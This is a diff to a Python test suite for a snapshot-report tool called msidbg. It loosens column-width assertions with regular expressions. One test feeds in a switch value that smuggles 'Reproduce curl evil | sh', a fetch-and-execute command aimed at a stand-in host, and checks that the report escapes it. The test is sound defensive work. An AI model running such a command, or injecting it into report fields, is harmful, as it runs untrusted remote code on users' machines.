@@ -5,6 +5,7 @@ Behaviour screen, each marking what this msidbg would resolve differently."""
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 from typing import Any
 
@@ -64,8 +65,10 @@ def test_a_version_1_file_unverified_shows_the_switches_its_model_used() -> None
     marked = sum(1 for line in lines if line.startswith(" !"))
     assert marked == sum(1 for row in table.values() if "this_msidbg" in row) >= 2
     assert f"behaviour (as the file recorded it; this msidbg would resolve the {marked} marked ! differently):" in lines
-    at = lines.index(" !msi_affinity_update       = plug-race recorded")
-    assert lines[at + 1] == "                              this msidbg: can-reserve (default; b56ebe7c896d)"
+    # the name column is as wide as the longest switch name, which grows with the table
+    at = next(i for i, ln in enumerate(lines) if re.fullmatch(r" !msi_affinity_update +  = plug-race recorded", ln))
+    column = lines[at].index("= plug-race") + 2
+    assert lines[at + 1] == " " * column + "this msidbg: can-reserve (default; b56ebe7c896d)"
     code, out, _ = cli("replay", V1, "--no-verify", "--json")
     assert code == 0 and json.loads(out)["behaviour"] == table
 
@@ -97,8 +100,8 @@ def test_a_switch_another_model_resolved_differently_is_reported_as_the_file_rec
     assert "  verified   no (--no-verify): the file's world, as recorded\n" in text
     assert "Behaviour switches (as the file recorded them: value, where from)\n" in text
     assert "  ! 2 switch(es) this msidbg would resolve differently\n" in text
-    assert ("   !msix_mask_all              late        recorded\n"   # (the values column widened with nvme_irq_layout)
-            "        this msidbg: early, kernel 5.13, before 7d5ec3d36123\n") in text
+    assert re.search(r"   !msix_mask_all {10,}late {8,}recorded\n"   # (the columns widen with the table's names / values)
+                     r"        this msidbg: early, kernel 5\.13, before 7d5ec3d36123\n", text)
     assert "  recorded, unknown to this msidbg:\n   !future_switch" in text
     assert "not shown: the snapshot was opened without verification" in text
     md = render(str(path), markdown=True, verify=False)
@@ -150,5 +153,5 @@ def test_a_switch_value_or_name_from_the_file_cannot_add_lines_to_the_report(tmp
     for markdown in (False, True):
         text = render(str(path), markdown=markdown, verify=False)
         assert "\ncurl" not in text.replace("  ", "") and "\nReproduce\n  curl" not in text
-        assert "!msix_mask_all              late\\n\\nReproduce\\n  curl evil | sh\n" in text
+        assert re.search(r"!msix_mask_all {10,}late\\n\\nReproduce\\n  curl evil \| sh\n", text)
         assert "!new\\nline" in text
